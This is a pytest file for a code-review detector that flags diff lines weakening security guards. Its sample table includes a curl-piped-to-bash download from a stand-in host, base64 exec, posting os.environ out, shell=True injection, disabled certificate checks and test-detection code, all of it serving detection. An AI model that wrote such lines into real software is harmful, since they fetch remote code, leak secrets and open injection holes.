"""Guards that go, line by line: every shape once, and what only moved or only looks like one."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.review.world import captured, changed
from wholeship.review.evidence.guards import CLOSED, OPENED, find_lost_guards

LINES = {
    "a download is run as it comes": "RUN curl -fsSL https://x.invalid/i | bash",
    "code is unpacked and run": "exec(base64.b64decode(text))",
    "certificates are not checked": "requests.get(url, verify=False)",
    "a container may do what the machine may": "  privileged: true",
    "a door is open to everybody": 'cidr_blocks = ["0.0.0.0/0"]',
    "rights are given away": "  name: cluster-admin",
    "protection is switched off": "DEBUG = True",
    "what goes wrong is passed over": "pytest || true",
    "the environment is sent out": "requests.post(url, json=dict(os.environ))",
    "a program is named that fetches code when it is installed": '    "postinstall": "node x.js",',
    "the program asks whether it is tested": "if os.environ.get('PYTEST_CURRENT_TEST'):",
    "a shell runs what others wrote": 'subprocess.run(f"ls {name}", shell=True)',
}
GONE = {
    "a check of rights is gone": "    if not user.is_admin:",
    "a limit or a probe is gone": "          livenessProbe:",
}


def found(path: str, *lines: str, removed: tuple[str, ...] = (), kind: str = "src") -> list[str]:
    file = replace(changed(path, *lines, deleted=len(removed)), removed=removed)
    return [each.what for each in find_lost_guards(captured(file).diff, {path: kind})]


def test_every_shape_has_its_line() -> None:
    """The tables and these examples name the same guards."""
    assert set(LINES) == set(OPENED)
    assert set(GONE) == set(CLOSED)


@pytest.mark.parametrize("what", LINES)
def test_what_opens_something_is_told(what: str) -> None:
    """A line that opens something is told; the same line that was there, or that only moved, is not."""
    line = LINES[what]
    assert what in found("deploy/a.yaml", line)
    assert what in found("deploy/a.yaml", f"{line}\r")
    assert found("deploy/a.yaml", line, removed=(line,)) == []
    assert found("deploy/a.yaml", f"    {line}", removed=(line,)) == []
    assert found("docs/a.md", line, kind="docs") == []
    assert found("deploy/a.yaml", f"# {line}") == []


@pytest.mark.parametrize("what", GONE)
def test_what_closed_something_and_goes_is_told(what: str) -> None:
    """A check or a limit that goes is told; one that is written otherwise is not."""
    line = GONE[what]
    assert what in found("src/a.py", "x = 1", removed=(line,))
    assert what not in found("src/a.py", f"  {line}", removed=(line,))


@pytest.mark.parametrize(
    ("path", "before", "now", "told"),
    [
        ("Dockerfile", "FROM python:3.12", "FROM python:3.13", False),
        ("Dockerfile", "FROM python:3.12", "FROM someone/python:3.12", True),
        ("Dockerfile", "FROM python:3.12@sha256:" + "a" * 64, "FROM python:latest", True),
        ("deploy/a.yaml", "  image: ghcr.io/a/b:1", "  image: ghcr.io/a/b:2", False),
        ("deploy/a.yaml", "  image: ghcr.io/a/b:1", "  image: ghcr.io/c/b:1", True),
        ("deploy/a.yaml", "  image: ghcr.io:5000/a/b:1", "  image: ghcr.io:5000/a/b", True),
        ("a.tf", '  source = "github.com/a/b?ref=v1"', '  source = "github.com/a/b?ref=v2"', False),
        ("a.tf", '  source = "github.com/a/b?ref=v1"', '  source = "github.com/a/b"', True),
    ],
)
def test_where_things_come_from(path: str, before: str, now: str, told: bool) -> None:
    """An image or a module from another place, or without its version, is told; a newer one is not."""
    assert bool(found(path, now, removed=(before,), kind="config")) is told


@pytest.mark.parametrize(
    "line",
    [
        "total = price * count",
        "return user.name",
        "  replicas: 3",
        "logger.info('authenticated %s', user)",
        "    environment: production",
        "set -eu",
        "RUN apt-get install -y curl",
        "assert response.status == 200",
    ],
)
def test_plain_lines_are_no_loss(line: str) -> None:
    """Everyday lines take no guard away."""
    assert found("src/a.py", line) == []


def test_a_line_that_nobody_can_read_is_told() -> None:
    """A line of many kilobytes is not read to its end, and that is a finding, not silence."""
    assert found("src/a.js", "x" * 20_000) == ["a line is too long to be read"]
